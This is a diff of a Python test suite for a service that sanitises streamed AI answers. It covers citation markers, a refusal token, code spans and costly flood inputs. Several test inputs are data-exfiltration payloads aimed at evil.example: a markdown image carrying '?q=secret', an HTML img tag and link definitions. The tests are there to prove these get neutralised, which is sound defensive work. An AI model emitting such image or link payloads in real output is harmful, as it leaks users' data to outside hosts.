@@ -8,7 +8,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lorebase.services.answer_text import NO_EVIDENCE, AnswerText
+from lorebase.services.answer_markers import NO_EVIDENCE, Marker, neutralised
+from lorebase.services.answer_text import AnswerText
 
 
 def shown(pieces: list[str], passages: int = 3) -> tuple[list[str], AnswerText]:
@@ -20,15 +21,27 @@ def whole(model_text: str, passages: int = 3) -> str:
     return shown([model_text], passages)[1].text
 
 
-PIECES = st.lists(
-    st.one_of(
-        st.text(max_size=8),
-        st.sampled_from(
-            ["[1]", "[", "2", "]", "[9]", "[1, 3]", "NO_", "EVIDENCE", "N", "<img ", "![x]", "(http", "]("]
-        ),
+FRAGMENTS = [
+    *(
+        "[1]",
+        "[",
+        "2",
+        "]",
+        "[9]",
+        "[1, 3]",
+        "NO_",
+        "EVIDENCE",
+        "N",
+        "<img ",
+        "<",
+        "![x]",
+        "(http",
+        "](",
+        "]:",
     ),
-    max_size=30,
-)
+    *("`", "``", "```", "\n", "\n```\n", "x[1]", " ", "\t", "[^", "**", "\ud83d", "\ude00", "\x00", "\r\n"),
+]
+PIECES = st.lists(st.one_of(st.text(max_size=8), st.sampled_from(FRAGMENTS)), max_size=30)
 
 
 @given(PIECES)
@@ -43,7 +56,15 @@ def test_nothing_that_fetches_or_commands_ever_shows(pieces: list[str]) -> None:
     text = shown(pieces)[1].text
     assert NO_EVIDENCE not in text
     assert "](" not in text
-    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", text)
+    assert not re.search(r"<[A-Za-z/!?]", text)
+    assert not re.search(r"^\W*\[[^\]\[]*\]:", text, re.MULTILINE)
+
+
+@given(PIECES)
+def test_whatever_shows_can_be_stored(pieces: list[str]) -> None:
+    text = shown(pieces)[1].text
+    text.encode("utf-8")
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
 
 
 @given(PIECES, st.integers(0, 3))
@@ -51,6 +72,43 @@ def test_every_marker_in_the_text_names_a_passage_that_was_given(pieces: list[st
     _, text = shown(pieces, passages)
     assert all(1 <= passage <= passages for passage in text.cited)
     assert len(set(text.cited)) == len(text.cited)
+    assert [text.text[m.start : m.end] for m in text.markers] == [f"[{m.number}]" for m in text.markers]
+    first_uses = dict.fromkeys(marker.number for marker in text.markers)
+    assert list(first_uses) == list(range(1, len(text.cited) + 1))
+
+
+@given(st.text(st.sampled_from("[]123, _NOEVIDC\n`ab."), max_size=60), st.lists(st.integers(1, 9)))
+def test_a_model_that_copies_a_passage_never_cites_by_its_words(passage: str, cuts: list[int]) -> None:
+    """However it was spaced, cut and put on one line: only the marker that the model adds is a citation."""
+    copied = " ".join(neutralised(passage).split())
+    answer = f"So {copied} [2]"
+    pieces, place = [], 0
+    for cut in cuts:
+        pieces.append(answer[place : place + cut])
+        place += cut
+    _, text = shown([*pieces, answer[place:]])
+    assert text.cited in ([2], [])
+    assert all(marker.end == len(text.text) for marker in text.markers)
+
+
+@pytest.mark.parametrize(
+    "flood",
+    [
+        "[" * 50_000,
+        " " * 50_000 + "x",
+        "`" * 20_000,
+        "[1," * 20_000,
+        "[1] " * 20_000,
+        "<" * 50_000,
+        "` [1]" * 9999,
+        "` " + "[1] " * 20_000,
+    ],
+)
+def test_a_model_that_runs_wild_costs_little(flood: str) -> None:
+    """Quadratic work over any of these would take minutes, and the limit of the test ends them."""
+    pieces = [flood[start : start + 5] for start in range(0, len(flood), 5)]
+    parts, text = shown(pieces)
+    assert "".join(parts) == text.text
 
 
 def test_plain_text_is_not_held_back() -> None:
@@ -103,17 +161,100 @@ def test_words_that_begin_like_the_token_are_shown() -> None:
     assert not text.is_refusal
 
 
-@pytest.mark.parametrize("pieces", [[], [""], [" ", "\n"]])
-def test_an_empty_answer_is_a_refusal(pieces: list[str]) -> None:
-    assert shown(pieces)[1].is_refusal
+@pytest.mark.parametrize(
+    "pieces", [["**NO_EVIDENCE**"], ["`", "NO_EVI", "DENCE`"], ['"', "NO_EVIDENCE", '"']]
+)
+def test_decoration_makes_a_refusal_no_answer(pieces: list[str]) -> None:
+    parts, text = shown(pieces)
+    assert "".join(parts) == ""
+    assert text.is_refusal
+
+
+@pytest.mark.parametrize("cut", ["NO_", "NO_EVID", " **NO_EVIDENC"])
+def test_a_token_cut_short_by_the_limit_is_a_refusal_too(cut: str) -> None:
+    parts, text = shown([cut])
+    assert "".join(parts) == ""
+    assert text.is_refusal
+
+
+def test_a_token_behind_words_is_no_refusal_and_not_shown_either() -> None:
+    assert whole("It says NO_EVIDENCE here.") == "It says NO-EVIDENCE here."
+    assert whole("It may be so. NO_EVI") == "It may be so. "
+
+
+def test_a_short_no_is_an_answer() -> None:
+    assert whole("NO") == "NO"
+    assert whole("No.") == "No."
+
+
+@pytest.mark.parametrize("pieces", [[], [""], [" ", "\n"], ["**", "- "]])
+def test_an_empty_answer_is_empty(pieces: list[str]) -> None:
+    _, text = shown(pieces)
+    assert text.text == ""
+    assert not text.is_refusal
+
+
+def test_markers_know_their_place() -> None:
+    _, text = shown(["One ", "[3, 2]", ". Two [2]."])
+    assert text.text == "One [1][2]. Two [2]."
+    assert text.markers == [Marker(4, 7, 1), Marker(7, 10, 2), Marker(16, 19, 2)]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "Use `argv[1]` here.",
+        "Use ``a[1] ` b[2]`` here.",
+        "```python\nx = [1]\ny[2]\n```\nDone.",
+        "  ```\nx[1]\n```` \nDone.",
+    ],
+)
+def test_code_is_left_alone(code: str) -> None:
+    parts, text = shown([*code, " [3]"])
+    assert text.text == f"{code.lstrip()} [1]"
+    assert text.cited == [3]
+    assert "".join(parts) == text.text
+
+
+@pytest.mark.parametrize("stray", ["Press ` to quote [1].", "Press ` to quote [1].\nThen `go`."])
+def test_a_lone_backtick_hides_no_citation(stray: str) -> None:
+    assert shown([*stray])[1].cited == [1]
+
+
+def test_a_citation_behind_a_fence_counts_again() -> None:
+    assert shown(["```\nx[2]\n```\nSo it is [3].\n```\nopen [1]"])[1].cited == [3]
+
+
+def test_half_a_character_waits_for_the_other_half() -> None:
+    parts, text = shown(["A \ud83d", "\ude00 face \ud83d"])
+    assert text.text == "A 😀 face "
+    assert parts[0] == "A"
 
 
 def test_images_and_links_are_broken_up() -> None:
     text = whole("See ![leak](https://evil.example/?q=secret) and [here](http://x).")
-    assert "](" not in text
-    assert "leak" in text
+    assert text == "See ![leak] (https://evil.example/?q=secret) and [here] (http://x)."
+
+
+@pytest.mark.parametrize(
+    "definition",
+    ["[a]: http://evil.example", "[1]: http://evil.example\n![1]", "> [1]: http://x", "[x][9]: http://x"],
+)
+def test_links_cannot_be_defined_elsewhere(definition: str) -> None:
+    assert "]:" not in whole(definition)
+
+
+def test_a_colon_behind_a_claim_stays() -> None:
+    assert whole("Two ways [1]: wait or cancel.") == "Two ways [1]: wait or cancel."
 
 
 def test_html_is_shown_as_text() -> None:
-    assert whole('<img src="https://evil.example/x">') == '\\<img src="https://evil.example/x">'
+    assert whole('<img src="https://evil.example/x">') == '< img src="https://evil.example/x">'
+    assert whole("\\<img src=x>") == "\\< img src=x>"
     assert whole("1 < 2 and a <- b") == "1 < 2 and a <- b"
+
+
+def test_what_is_taken_out_lets_nothing_grow_together() -> None:
+    assert "<img" not in shown(["<[", "9]img src=x>"])[1].text
+    assert "[1]" not in whole("[[9]1]")
+    assert NO_EVIDENCE not in whole("x NO_EVI[9]DENCE")
